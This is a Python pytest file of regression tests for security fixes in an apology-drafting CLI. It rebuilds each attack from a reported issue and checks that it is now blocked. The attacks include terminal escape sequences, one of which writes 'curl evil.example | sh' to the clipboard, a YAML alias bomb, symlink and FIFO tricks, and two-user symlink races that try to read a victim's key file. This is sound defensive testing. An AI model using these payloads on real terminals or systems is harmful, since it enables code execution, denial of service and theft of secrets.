"""The attacks of issue #18, each as it was reproduced, and what stops it now.

A hostile playbook, a hostile template, a hostile answer or another user sharing a folder
tries what the issue found; each test says what it did before the fix in its docstring.
The sections follow the issue's numbered items; the one-line refusals of item 7 are rows
of docs/bad-inputs.md and live in tests/test_bad_inputs.py.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

TESTS = Path(__file__).parent
BAD = TESTS / "data" / "bad"
REPO = TESTS.parent

ESC, BEL = "\x1b", "\x07"
OSC52 = f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}"  # "curl evil.example | sh" into the clipboard
OSC0 = f"{ESC}]0;pwned{BEL}"
CLEAR = f"{ESC}[2J{ESC}[H"
C1_CSI = "\x9b2J"
# Every character a terminal acts on: C0 but newline and tab, DEL, C1.
CONTROLS = (set(map(chr, range(0x20))) - {"\n", "\t"}) | {"\x7f"} | set(map(chr, range(0x80, 0xA0)))


def controls_in(text: str) -> set[str]:
    return CONTROLS & set(text)


Cli = Callable[..., tuple[int, str, str]]


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    """A playbook folder (base.yaml and its note.j2), as a team might share one."""
    folder = tmp_path / "shared"
    folder.mkdir()
    shutil.copy(BAD / "base.yaml", folder / "base.yaml")
    shutil.copy(BAD / "note.j2", folder / "note.j2")
    return folder


def start(cli: Cli, playbook: Path, tmp_path: Path, *extra: str, answers: dict | None = None) -> str:
    """Run `playbook` to the end from an answers file; the new session's id."""
    values = answers or yaml.safe_load((BAD / "answers.yaml").read_text(encoding="utf-8"))
    path = tmp_path / "answers.json"
    path.write_text(json.dumps(values, default=str), encoding="utf-8")
    code, out, err = cli("start", str(playbook), "--answers", str(path), "--no-input", *extra)
    assert code == 0, err
    return out.strip().splitlines()[-1]


# --- 1. no cache: nothing under the home is read back as code or data but the journal -------

JOURNAL_FILES = {"journal.sqlite3", "journal.sqlite3-wal", "journal.sqlite3-shm"}
# Run one command in a fresh interpreter and report which of mea-culpa's modules it loaded,
# to read their imports (marshal is built into Python and always loaded, and jinja2 imports
# pickle for a cache it is never given, so what counts is what mea-culpa itself imports).
RUN_AND_REPORT = """
import json, os, sys
from mea_culpa.cli.app import main
try:
    main(sys.argv[1:])
except SystemExit:
    pass
modules = {n: getattr(m, "__file__", None) for n, m in list(sys.modules.items()) if n.startswith("mea_culpa")}
with open(os.environ["REPORT"], "w") as handle:
    json.dump({"modules": modules}, handle)
"""
COMMANDS = [
    pytest.param("start", id="start"),
    pytest.param("draft", id="draft"),
    pytest.param("export", id="export"),
    pytest.param("check", id="check"),
    pytest.param("list", id="list"),
]


def _run_reporting(args: list[str], home: Path, cwd: Path) -> dict:
    import subprocess

    report = cwd / "report.json"
    env = {k: v for k, v in os.environ.items() if not k.startswith("MEA_CULPA_")}
    env.update(MEA_CULPA_HOME=str(home), MEA_CULPA_CONFIG=str(cwd / "config"), NO_COLOR="1", REPORT=str(report))
    done = subprocess.run([sys.executable, "-c", RUN_AND_REPORT, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=60)
    assert report.exists(), done.stderr
    return json.loads(report.read_text(encoding="utf-8"))


def _command(name: str, tmp_path: Path, home: Path) -> list[str]:
    """The command line for `name`, after the session it needs has been run."""
    if name in ("draft", "export"):
        _run_reporting(["start", str(BAD / "base.yaml"), "--answers", str(BAD / "answers.yaml"), "--no-input"], home, tmp_path)
    (tmp_path / "apology.txt").write_text("I'm sorry I sent your invoice to the wrong client.\n", encoding="utf-8")
    return {
        "start": ["start", str(BAD / "base.yaml"), "--answers", str(BAD / "answers.yaml"), "--no-input"],
        "draft": ["draft", "-m", "note"],
        "export": ["export", "-f", "md"],
        "check": ["check", str(tmp_path / "apology.txt")],
        "list": ["list"],
    }[name]


def _imports_of(path: str) -> set[str]:
    import ast

    tree = ast.parse(Path(path).read_text(encoding="utf-8"))
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names.update(alias.name.split(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            names.add(node.module.split(".")[0])
    return names


@pytest.mark.parametrize("name", COMMANDS)
def test_after_each_command_the_home_holds_the_journal_and_nothing_else(tmp_path: Path, name: str):
    """The caches under the home were files read back as code (marshal) and data (pickle):
    whoever could write them could run code as the user. There is no cache: after each
    command, the home holds the journal or nothing, and the command imported neither pickle
    nor marshal."""
    home = tmp_path / "home"
    args = _command(name, tmp_path, home)
    report = _run_reporting(args, home, tmp_path)
    left = {p.relative_to(home).as_posix() for p in home.rglob("*")} if home.exists() else set()
    assert left <= JOURNAL_FILES, sorted(left - JOURNAL_FILES)
    unpickling = {n for n, f in report["modules"].items() if f and {"pickle", "marshal", "shelve"} & _imports_of(f)}
    assert not unpickling, sorted(unpickling)


def test_jinja_keeps_no_bytecode_cache():
    """jinja2 imports pickle for its optional bytecode cache (jinja2/bccache.py): that
    cache is never set, so Jinja reads no compiled template back from anywhere."""
    from mea_culpa.messages.drafting import _environment
    from mea_culpa.playbook.expressions import make_environment

    assert make_environment().bytecode_cache is None
    assert _environment((BAD,)).bytecode_cache is None


# --- 4. escape sequences ----------------------------------------------------------------

# Jinja reads "\x1b" in a string constant as the escape character, so these pass the YAML
# control-character check: the file itself holds only backslashes and letters.
JINJA_OSC52 = '{{ "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" }}'
JINJA_TITLE = '{{ "\\x1b]0;pwned\\x07" }}'
# Built while rendering: no static check can see it; only the output filter stops it.
COMPUTED_CLEAR = '{{ "%c[2J%c[H" % (27, 27) }}'


def test_validate_refuses_a_template_whose_strings_hold_escape_sequences(cli: Cli, shared: Path):
    """Before: `validate` said ok and `draft` printed OSC 52 (a clipboard write) raw."""
    (shared / "note.j2").write_text(f"{JINJA_OSC52}Hello,\n{{{{ what_happened }}}}\n", encoding="utf-8")
    code, out, _ = cli("validate", str(shared / "base.yaml"))
    assert code == 2
    assert out.splitlines() == [
        f"{shared / 'base.yaml'}:28:15: messages[0].template: template note.j2: refused: the text "
        "'\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07' contains the control character U+001B; "
        "templates are plain text (a control character could rewrite the terminal)"
    ]


def test_validate_refuses_a_raw_escape_character_in_a_template(cli: Cli, shared: Path):
    (shared / "note.j2").write_text(f"{CLEAR}Hello,\n{{{{ what_happened }}}}\n", encoding="utf-8")
    code, out, _ = cli("validate", str(shared / "base.yaml"))
    assert code == 2
    assert "template note.j2: refused: the text '\\x1b[2J\\x1b[HHello,\\n' contains the control character U+001B" in out


def test_validate_refuses_escape_sequences_in_a_when_or_a_default(cli: Cli, shared: Path):
    text = (shared / "base.yaml").read_text(encoding="utf-8")
    text = text.replace("when: \"severity != 'none'\"", "when: \"severity != '\\\\x1b[2J'\"")
    text = text.replace('default: "{{ what_happened }} That', 'default: "{{ \'\\\\x9b2J\' }}{{ what_happened }} That')
    (shared / "base.yaml").write_text(text, encoding="utf-8")
    code, out, _ = cli("validate", str(shared / "base.yaml"))
    assert code == 2
    assert "stages[1].steps[0].default: refused: the text '\\x9b2J' contains the control character U+009B" in out
    assert "stages[1].steps[0].when: refused: the text '\\x1b[2J' contains the control character U+001B" in out


def test_a_draft_never_carries_escape_sequences_to_the_terminal_a_file_or_the_journal(cli: Cli, shared: Path, tmp_path: Path):
    """The template is changed after the run (`draft` does not validate it again): string
    escapes and a sequence built while rendering. Before: printed raw, stored raw."""
    session = start(cli, shared / "base.yaml", tmp_path)
    (shared / "note.j2").write_text(
        f"{JINJA_OSC52}{JINJA_TITLE}{COMPUTED_CLEAR}Hello,\n{{{{ what_happened }}}}\n{{{{ responsibility }}}}\n", encoding="utf-8"
    )
    code, out, err = cli("draft", session, "-m", "note")
    assert code == 0, err
    assert out.startswith("Hello,\nThe invoice went to the wrong client.")
    assert not controls_in(out + err)

    code, _, err = cli("draft", session, "-m", "note", "-o", str(tmp_path / "note.txt"))
    assert code == 0, err
    assert not controls_in((tmp_path / "note.txt").read_text(encoding="utf-8"))

    from mea_culpa.journal import open_journal

    with open_journal(create=False) as journal:
        drafts = journal.load(session).drafts
    assert drafts and all(not controls_in(d.text) for d in drafts)


HOSTILE_ANSWERS = {
    "severity": "major",
    "what_happened": f"It {OSC52}went {OSC0}to the {CLEAR}wrong {C1_CSI}client.",
    "responsibility": f"I sent it.\tThat was my mistake.{BEL}",
}


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_text_exports_print_no_escape_sequences_from_answers_or_the_title(cli: Cli, shared: Path, tmp_path: Path, fmt: str):
    """Before: `export -f md` printed the answers' OSC 52, OSC 0 and clear-screen raw."""
    session = start(cli, shared / "base.yaml", tmp_path, "--title", f"inv{OSC0}oice", answers=HOSTILE_ANSWERS)
    code, out, err = cli("export", session, "-f", fmt)
    assert code == 0, err
    assert not controls_in(out)
    assert "It went to the wrong client." in out
    assert "I sent it.\tThat was my mistake." in out  # a tab is text


@pytest.mark.parametrize("fmt", ["json", "yaml"])
def test_data_exports_keep_every_character_but_as_escapes(cli: Cli, shared: Path, tmp_path: Path, fmt: str):
    """JSON and YAML keep the answers exactly, written so that a terminal shows escapes
    (`\\u001b`, `\\e`) instead of acting on them."""
    session = start(cli, shared / "base.yaml", tmp_path, "--title", f"inv{OSC0}oice\nanswers: {{severity: none}}", answers=HOSTILE_ANSWERS)
    code, out, err = cli("export", session, "-f", fmt)
    assert code == 0, err
    assert not controls_in(out)
    if fmt == "json":
        steps = {s["id"]: s["answer"] for stage in json.loads(out)["stages"] for s in stage["steps"]}
    else:
        steps = yaml.safe_load(out)["answers"]  # the title's newline did not start a key of its own
    assert steps["what_happened"] == HOSTILE_ANSWERS["what_happened"]
    assert steps["responsibility"] == HOSTILE_ANSWERS["responsibility"]
    if fmt == "yaml":
        assert steps["severity"] == "major"


def test_list_shows_an_unvalidated_playbook_title_without_escape_sequences(cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """`list` reads files shallowly, without the validator. Before: a title written with
    YAML escapes ("\\e]0;…\\a") set the window title."""
    folder = tmp_path / "project" / ".mea-culpa" / "playbooks"
    folder.mkdir(parents=True)
    text = (BAD / "base.yaml").read_text(encoding="utf-8").replace("title: Bad example", 'title: "Bad\\e]0;pwned\\a \\x9b2Jexample"')
    (folder / "base.yaml").write_text(text, encoding="utf-8")
    monkeypatch.chdir(tmp_path / "project")
    code, out, err = cli("list")
    assert code == 0, err
    assert "Bad example" in out
    assert not controls_in(out + err)
    code, out, _ = cli("list", "--json")
    assert not controls_in(out)
    assert json.loads(out)[0]["title"] == "Bad\x1b]0;pwned\x07 \x9b2Jexample"


def test_the_run_shows_titles_prompts_and_answers_without_escape_sequences(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch):
    """cli/ui.py: stage headers, guidance, the review table and the resume banner. A
    playbook that reached the run without the validator (a model built in code), a session
    title and answers from a shared journal."""
    monkeypatch.setenv("FORCE_COLOR", "1")
    from mea_culpa.cli import ui
    from mea_culpa.playbook.model import Playbook
    from mea_culpa.run.session import new_session, plan

    data = yaml.safe_load((BAD / "base.yaml").read_text(encoding="utf-8"))
    data["title"] = f"Bad{OSC0} example"
    data["stages"][0]["title"] = f"Facts{OSC52}"
    data["stages"][0]["guidance"] = f"Facts {CLEAR}first."
    data["stages"][0]["steps"][1]["prompt"] = f"What {C1_CSI}happened?"
    book = Playbook.model_validate(data)
    session, _ = new_session(book, session_id="s", title=f"t{OSC0}itle", now="2026-01-01T00:00:00+00:00", tags=())
    planned = plan(book, session)
    ui.console.cache_clear()
    try:
        ui.intro(book)
        ui.stage_header(planned.stages[0], 1, 2)
        ui.answers_table(planned, title="Review")
        ui.resumed(session, planned, changed=True)
        ui.notice(f"note {OSC0}")
        ui.show_playbook(book)
    finally:
        ui.console.cache_clear()
    out, err = capsys.readouterr()
    shown = out + err
    for word in ("Bad example", "Facts", "first.", "What happened?", "title"):
        assert word in shown
    # colours are rich's own (FORCE_COLOR): CSI "m" sequences; nothing else may be there
    import re

    left = re.sub(r"\x1b\[[0-9;]*m", "", shown)
    assert not controls_in(left), [left[max(0, i - 30) : i + 30] for i, c in enumerate(left) if c in CONTROLS]


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_check_shows_the_checked_text_without_its_escape_sequences(cli: Cli, tmp_path: Path, fmt: str):
    """`check` quotes the text around each finding. Before: an escape sequence in the
    checked file was printed raw (and C1 controls raw in JSON)."""
    path = tmp_path / f"apology{OSC0}.txt"
    path.write_text(f"Sorry for any {OSC52}inconvenience {C1_CSI}this may have caused.\n", encoding="utf-8")
    code, out, err = cli("check", str(path), "-f", fmt)
    assert code in (0, 1), err
    assert "inconvenience" in out
    assert not controls_in(out + err)


# --- 3. `new --from` copies regular files only ----------------------------------------


def _new_from_in_a_child(tmp_path: Path, source: Path) -> tuple[int, str]:
    """`new mine --from bad-example` in a child process that may not write more than 20 MB
    (the copy of /dev/zero would fill the disk) nor take more than 20 s."""
    import resource
    import subprocess

    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000_000, 20_000_000))

    env = {k: v for k, v in os.environ.items() if not k.startswith("MEA_CULPA_")}
    env.update(MEA_CULPA_HOME=str(tmp_path / "home"), MEA_CULPA_CONFIG=str(tmp_path / "config"), NO_COLOR="1")
    try:
        done = subprocess.run(
            [sys.executable, "-m", "mea_culpa", "new", "mine", "--from", "bad-example", "--playbooks", str(source.parent), "--dir", str(tmp_path / "mine")],
            env=env, cwd=tmp_path, capture_output=True, text=True, timeout=20, preexec_fn=bounded,
        )
    except subprocess.TimeoutExpired:
        return -1, "timed out"
    return done.returncode, done.stderr


@pytest.fixture
def playbook_folder(tmp_path: Path) -> Path:
    """A playbook kept in a folder of its own, with its template, as `new --from` copies it."""
    folder = tmp_path / "shared" / "bad-example"
    folder.mkdir(parents=True)
    text = (BAD / "base.yaml").read_text(encoding="utf-8").replace("template: note.j2", "template: internal-note")
    (folder / "playbook.yaml").write_text(text, encoding="utf-8")
    shutil.copy(BAD / "note.j2", folder / "note.j2")
    return folder


@pytest.mark.parametrize("kind", ["a link to a key file", "a link to /dev/zero", "a FIFO"])
def test_new_from_a_folder_copies_regular_files_only_and_leaves_no_half_copy(tmp_path: Path, playbook_folder: Path, kind: str):
    """Before: the link's target (a key file) was copied in; /dev/zero was copied until
    the disk was full, and the half copy stayed; a FIFO failed with exit 1 and the half copy
    stayed. Now: one line naming the file, exit 2, and no folder left behind."""
    name = {"a link to a key file": "footer.j2", "a link to /dev/zero": "zero.j2", "a FIFO": "pipe.j2"}[kind]
    extra = playbook_folder / name
    if kind == "a link to a key file":
        key = tmp_path / "id_key"
        key.write_text("-----BEGIN KEY----- secret\n", encoding="utf-8")
        key.chmod(0o600)
        extra.symlink_to(key)
        why = f"it is a link (to {str(key)!r})"
    elif kind == "a link to /dev/zero":
        extra.symlink_to("/dev/zero")
        why = "it is a link (to '/dev/zero')"
    else:
        os.mkfifo(extra)
        why = "it is a FIFO (named pipe)"
    code, err = _new_from_in_a_child(tmp_path, playbook_folder)
    assert code == 2, err
    assert err.splitlines()[0] == f"error: cannot copy {extra}: {why}; `new --from` copies regular files only"
    assert not (tmp_path / "mine" / "mine").exists()  # no half copy


def test_new_from_a_folder_copies_its_templates(tmp_path: Path, playbook_folder: Path):
    """Before: the copy was validated against templates beside the copy, which did not
    exist yet, so a playbook with a template of its own could not be copied at all."""
    text = (playbook_folder / "playbook.yaml").read_text(encoding="utf-8").replace("template: internal-note", "template: note.j2")
    (playbook_folder / "playbook.yaml").write_text(text, encoding="utf-8")
    (playbook_folder / "partials").mkdir()
    (playbook_folder / "partials" / "footer.j2").write_text("Thanks\n", encoding="utf-8")
    code, err = _new_from_in_a_child(tmp_path, playbook_folder)
    assert code == 0, err
    copy = tmp_path / "mine" / "mine"
    assert sorted(p.relative_to(copy).as_posix() for p in copy.rglob("*")) == [
        "note.j2", "partials", "partials/footer.j2", "playbook.schema.json", "playbook.yaml"
    ]
    assert (copy / "partials" / "footer.j2").read_text(encoding="utf-8") == "Thanks\n"


def test_new_from_a_folder_refuses_more_than_it_may_copy(tmp_path: Path, playbook_folder: Path):
    from mea_culpa.playbook.scaffold import MAX_COPY_BYTES

    (playbook_folder / "big.bin").write_bytes(b"x" * (MAX_COPY_BYTES + 1))
    code, err = _new_from_in_a_child(tmp_path, playbook_folder)
    assert code == 2, err
    assert err.splitlines()[0] == f"error: cannot copy {playbook_folder}: it holds more than {MAX_COPY_BYTES:,} bytes; `new --from` copies regular files only"
    assert not (tmp_path / "mine" / "mine").exists()


# --- 5. bombs: bounded by size, not only by count -----------------------------------------

# 495 bytes: nine levels of nine aliases under `title`, 9**9 copies of a 38-character string.
TITLE_BOMB = "id: title-bomb\na0: &a0 [\"lolololololololololololololololololol\"]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10)
) + "title: *a9\nstages: []\n"


def _memory_bounded() -> None:
    import resource

    # the old `list` took 2.9 GB for this file: a child that may not, fails instead
    resource.setrlimit(resource.RLIMIT_AS, (1_500_000_000, 1_500_000_000))


@pytest.fixture
def project_with_a_bomb(tmp_path: Path) -> Path:
    project = tmp_path / "project"
    (project / ".mea-culpa" / "playbooks").mkdir(parents=True)
    (project / ".mea-culpa" / "playbooks" / "title-bomb.yaml").write_text(TITLE_BOMB, encoding="utf-8")
    return project


def test_list_survives_an_alias_bomb_in_a_title_and_lists_the_rest(tmp_path: Path, project_with_a_bomb: Path):
    """Before: `list` read titles with PyYAML's own loader and turned this title into
    text: 68 s and 2.9 GB. Now listing reads through yamlfile (bounded after aliases are
    expanded): the bomb is one line, the other playbooks are listed."""
    import subprocess

    env = {k: v for k, v in os.environ.items() if not k.startswith("MEA_CULPA_")}
    env.update(MEA_CULPA_HOME=str(tmp_path / "home"), MEA_CULPA_CONFIG=str(tmp_path / "config"), NO_COLOR="1")
    try:
        done = subprocess.run(
            [sys.executable, "-m", "mea_culpa", "list"], cwd=project_with_a_bomb, env=env,
            capture_output=True, text=True, timeout=30, preexec_fn=_memory_bounded,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("`list` did not finish in 30 s")
    assert done.returncode == 0, done.stderr
    assert "general          Any mistake" in done.stdout
    bomb = project_with_a_bomb / ".mea-culpa" / "playbooks" / "title-bomb.yaml"
    assert done.stderr.strip().splitlines() == [
        f"{bomb}: expands to more than 2,000,000 characters of text (repeated aliases?); write the data out plainly "
        f"(details: mea-culpa validate {bomb})"
    ]


@pytest.mark.pty
def test_the_chooser_skips_a_bomb_with_one_line_and_offers_the_rest(tmp_path: Path, project_with_a_bomb: Path):
    """`start` without a playbook lists the playbooks to choose from. Before: it hung on
    the bomb (the same reading as `list`)."""
    pexpect = pytest.importorskip("pexpect")
    from terminal_helpers import CTRL_C, run_env, spawn

    child = spawn(["start"], run_env(tmp_path / "home", MEA_CULPA_CONFIG=str(tmp_path / "config")), project_with_a_bomb, timeout=30)
    try:
        child.expect("skipped .*title-bomb.yaml: expands to more than 2,000,000 characters")
        child.expect("Which kind of mistake is it?")
        child.expect("Any mistake")
        child.send(CTRL_C)
        child.expect(pexpect.EOF)
    finally:
        child.close(force=True)

# --- 6. sensitive answers stay out of exports, drafts included -----------------------------


@pytest.mark.parametrize("fmt", ["md", "html", "json"])
def test_the_wrong_recipient_example_keeps_the_name_out_of_every_draft_in_its_export(cli: Cli, tmp_path: Path, fmt: str):
    """Built-in `wrong-recipient`: `recipient_name` is sensitive. Before: the checklist
    said [redacted] while the drafts in the same export said "Hi Jo," (a secret under three
    characters was not looked for)."""
    answers = yaml.safe_load((TESTS / "data" / "answers" / "wrong-recipient.yaml").read_text(encoding="utf-8"))
    session = start(cli, Path("wrong-recipient"), tmp_path, answers=answers)
    for message in ("containment-request", "personal-note", "customer-apology"):
        code, out, err = cli("draft", session, "-m", message)
        assert code == 0, err
    assert "Hi Jo," in cli("draft", session, "-m", "personal-note")[1]  # the draft itself is the sender's to read
    code, out, err = cli("export", session, "-f", fmt)
    assert code == 0, err
    drafts = [m["text"] for m in json.loads(out)["messages"]] if fmt == "json" else [out.split("Messages", 1)[1]]
    import re

    for text in drafts:
        assert not re.search(r"\bJo\b", text), text
        assert "Another client with a similar surname" not in text
    assert "Hi [redacted]," in "".join(drafts)


def test_a_secret_is_found_in_a_draft_however_its_spaces_and_letters_were_changed():
    """A draft tidies doubled spaces and line breaks, and templates change the case of a
    first letter; a short secret is matched as a whole word, not inside other words."""
    from mea_culpa.export.document import REDACTED, redact_text, secret_patterns

    patterns = secret_patterns(["Acme  Holdings\nLtd", "Jo", "  ", "Income for 2025.\nBank account ending 4471."])
    draft = (
        "Hi jo, we sent the file for acme holdings ltd to the wrong person. Joe and Jordan were not affected.\n"
        "It listed income for 2025 and bank account ending 4471."
    )
    assert redact_text(draft, patterns) == (
        f"Hi {REDACTED}, we sent the file for {REDACTED} to the wrong person. Joe and Jordan were not affected.\n"
        f"It listed {REDACTED} and {REDACTED}."
    )


# --- two real users ----------------------------------------------------------------------
# The races of items 1 and 2 need a victim and an attacker who cannot read the victim's
# files. The test makes both with useradd (as root) and runs each side in a forked child
# that drops to that user: the interpreter and the modules are already loaded, so the
# users need no access to where Python is installed.


@pytest.fixture
def two_users(tmp_path: Path):
    """(victim, attacker) as pwd entries, and a folder both can reach; removed afterwards."""
    import pwd
    import subprocess
    import tempfile
    import uuid

    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        pytest.skip("making two users needs root (useradd); run as root to test the races between users")
    if shutil.which("useradd") is None or shutil.which("userdel") is None:
        pytest.skip("useradd/userdel are not installed: cannot make the two users of this race")
    tag = uuid.uuid4().hex[:8]
    names = [f"mcv{tag}", f"mca{tag}"]
    made = []
    try:
        for name in names:
            done = subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name], capture_output=True, text=True)
            if done.returncode != 0:
                pytest.skip(f"useradd cannot make a user here: {done.stderr.strip()}")
            made.append(name)
        root = Path(tempfile.mkdtemp(prefix="mea-culpa-race-", dir="/tmp"))
        root.chmod(0o755)
        opened = _reachable_by_others(Path(__file__).resolve().parent.parent)
        try:
            yield pwd.getpwnam(names[0]), pwd.getpwnam(names[1]), root
        finally:
            for folder, mode in opened:
                folder.chmod(mode)
            shutil.rmtree(root, ignore_errors=True)
    finally:
        for name in made:
            subprocess.run(["userdel", name], capture_output=True)


def _reachable_by_others(checkout: Path) -> list[tuple[Path, int]]:
    """Let the two users pass through the folders above the checkout (they read the
    built-in templates and the test data in it): a fresh clone may sit in a private
    temporary folder (mktemp -d makes it 0700). Only the right to pass through is added,
    never to list or write, and each folder's mode is given back afterwards."""
    import stat

    opened = []
    for folder in (checkout, *checkout.parents):
        mode = stat.S_IMODE(folder.stat().st_mode)
        if not mode & stat.S_IXOTH:
            folder.chmod(mode | stat.S_IXOTH)
            opened.append((folder, mode))
    return opened


def as_user(user, work: Callable[[], None]) -> tuple[int, Path]:
    """Run `work` in a child process as `user`: its pid, and the file that will hold its
    traceback if it fails. The child never returns here."""
    import tempfile

    fd, name = tempfile.mkstemp(prefix="mea-culpa-child-", suffix=".txt")
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child's own coverage is not collected
        code = 0
        try:
            os.setgroups([])
            os.setgid(user.pw_gid)
            os.setuid(user.pw_uid)
            work()
        except BaseException:
            import traceback

            os.write(fd, traceback.format_exc().encode())
            code = 1
        finally:
            os._exit(code)
    os.close(fd)
    return pid, Path(name)


def wait(child: tuple[int, Path]) -> None:
    """Wait for a child of `as_user`; fail with its traceback if it failed."""
    pid, errors = child
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    text = errors.read_text(encoding="utf-8")
    errors.unlink()
    assert code == 0, text


def run_cli_here(*args: str) -> tuple[int, str, str]:
    """The CLI in this process, its output captured in memory (for a forked child)."""
    import contextlib
    import io

    from mea_culpa.cli.app import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            main(list(args))
            code = 0
        except SystemExit as exc:
            code = int(exc.code or 0)
    return code, out.getvalue(), err.getvalue()


# --- 1. (two users) a shared home: nothing another user puts there is read ----------------

# The files the removed caches read back: validated playbooks (marshal), compiled Jinja code
# (marshal), the listing and the template analyses (JSON).
OLD_CACHES = ("playbooks.marshal", "jinja-code.marshal", "playbook-listing.json", "template-analysis.json")


def test_a_shared_home_gives_another_user_no_file_the_victim_reads_back(cli: Cli, two_users, tmp_path: Path):
    """The home sits in a group-writable folder. Before, another user swapped `cache/` for
    a link to their own folder holding a crafted playbooks.marshal, and the victim's
    `start general` ran their code. Now the attacker plants every file the caches read, as
    a FIFO that tells them when it is opened, and links `cache/` to their folder: the
    victim's start, draft, export, check and list open none of them."""
    victim, attacker, root = two_users
    home = root / "home"
    home.mkdir()
    home.chmod(0o770)
    os.chown(home, victim.pw_uid, attacker.pw_gid)  # shared with the attacker's group
    planted = root / "planted"
    planted.mkdir()
    for name in OLD_CACHES:
        os.mkfifo(planted / name)
    for path in (planted, *planted.iterdir()):
        os.chown(path, attacker.pw_uid, attacker.pw_gid)
    opened = root / "opened"
    opened.mkdir(mode=0o777)
    opened.chmod(0o777)
    stop = root / "stop"
    work = root / "victim"
    work.mkdir()
    os.chown(work, victim.pw_uid, victim.pw_gid)
    (root / "apology.txt").write_text("I'm sorry I sent your invoice to the wrong client.\n", encoding="utf-8")
    (root / "answers.yaml").write_text((BAD / "answers.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    shutil.copy(BAD / "base.yaml", root / "base.yaml")
    shutil.copy(BAD / "note.j2", root / "note.j2")

    warm = start(cli, root / "base.yaml", tmp_path)  # load every module before dropping to users
    for args in (("draft", warm, "-m", "note"), ("export", warm), ("check", str(root / "apology.txt")), ("list",)):
        cli(*args)

    def plant_and_watch() -> None:
        import errno as errors

        os.symlink(planted, home / "cache")
        while not stop.exists():
            for name in OLD_CACHES:
                try:  # succeeds only when someone has the FIFO open for reading
                    fd = os.open(planted / name, os.O_WRONLY | os.O_NONBLOCK)
                except OSError as exc:
                    if exc.errno == errors.ENXIO:
                        continue
                    raise
                (opened / name).touch()
                os.close(fd)

    def victim_at_work() -> None:
        os.environ.update(MEA_CULPA_HOME=str(home), MEA_CULPA_CONFIG=str(work / "config"))
        os.chdir(work)
        code, out, err = run_cli_here("start", str(root / "base.yaml"), "--answers", str(root / "answers.yaml"), "--no-input")
        assert code == 0, err
        session = out.strip().splitlines()[-1]
        for args in (("draft", session, "-m", "note"), ("export", session), ("check", str(root / "apology.txt")), ("list",)):
            code, _, err = run_cli_here(*args)
            assert code in (0, 1), (args, err)

    watching = as_user(attacker, plant_and_watch)
    try:
        import time

        for _ in range(500):  # wait until the link is planted
            if (home / "cache").is_symlink():
                break
            time.sleep(0.01)
        wait(as_user(victim, victim_at_work))
    finally:
        stop.touch()
        wait(watching)
    assert not list(opened.iterdir()), f"the victim opened {sorted(p.name for p in opened.iterdir())}"


# --- 2. templates and included files are opened once, without following links ------------


def test_a_template_swapped_for_a_link_to_another_users_secret_never_reaches_a_draft(
    cli: Cli, two_users, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """A shared playbook folder: while the victim drafts, the attacker keeps swapping
    note.j2 for a link to the victim's 0600 key file and back. Before: the loader checked
    the name, then opened it again following links, and drafts and the journal held the
    key. Now each template is opened once with O_NOFOLLOW and read from what was opened:
    a draft renders the real template or is refused, and the key is never read."""
    victim, attacker, root = two_users
    secret = "-----BEGIN KEY----- 7f3a9c-only-the-victim-may-read-this"
    private = root / "victim"
    private.mkdir(mode=0o700)
    key = private / "id_key"
    key.write_text(secret + "\n", encoding="utf-8")
    key.chmod(0o600)
    shared = root / "shared"
    shared.mkdir()
    shutil.copy(BAD / "base.yaml", shared / "base.yaml")
    shutil.copy(BAD / "note.j2", shared / "note.j2")
    for path in (private, key):
        os.chown(path, victim.pw_uid, victim.pw_gid)
    for path in (shared, shared / "base.yaml", shared / "note.j2"):
        os.chown(path, attacker.pw_uid, attacker.pw_gid)
    home = private / "home"
    stop = root / "stop"
    report = private / "report.json"

    # Load every module a start and a draft use, before the children drop to users who
    # cannot read where Python lives.
    warm = start(cli, shared / "base.yaml", tmp_path)
    assert cli("draft", warm, "-m", "note")[0] == 0

    def swap() -> None:
        # Two copies of the real template, put back in turn: each time the victim finds
        # a file, it is one it has not read yet, so it reads again (no cached template).
        text = (shared / "note.j2").read_text(encoding="utf-8")
        copies = [shared / ".real-a", shared / ".real-b"]
        for copy in copies:
            copy.write_text(text, encoding="utf-8")
        os.utime(copies[1], ns=(1, 1))
        for turn in range(10**9):
            if turn % 1000 == 0 and stop.exists():
                return
            os.symlink(key, shared / ".link")
            os.rename(shared / ".link", shared / "note.j2")
            os.link(copies[turn % 2], shared / ".file")
            os.rename(shared / ".file", shared / "note.j2")

    def run_the_playbook() -> None:
        os.environ.update(MEA_CULPA_HOME=str(home), MEA_CULPA_CONFIG=str(private / "config"))
        answers = private / "answers.yaml"
        answers.write_text((BAD / "answers.yaml").read_text(encoding="utf-8"), encoding="utf-8")
        code, out, err = run_cli_here("start", str(shared / "base.yaml"), "--answers", str(answers), "--no-input")
        assert code == 0, err
        (private / "session").write_text(out.strip().splitlines()[-1], encoding="utf-8")

    def draft_again_and_again() -> None:
        import time

        from mea_culpa.errors import MeaCulpaError
        from mea_culpa.journal import open_journal
        from mea_culpa.messages.drafting import render
        from mea_culpa.playbook.loading import load

        os.environ.update(MEA_CULPA_HOME=str(home), MEA_CULPA_CONFIG=str(private / "config"))
        session_id = (private / "session").read_text(encoding="utf-8")
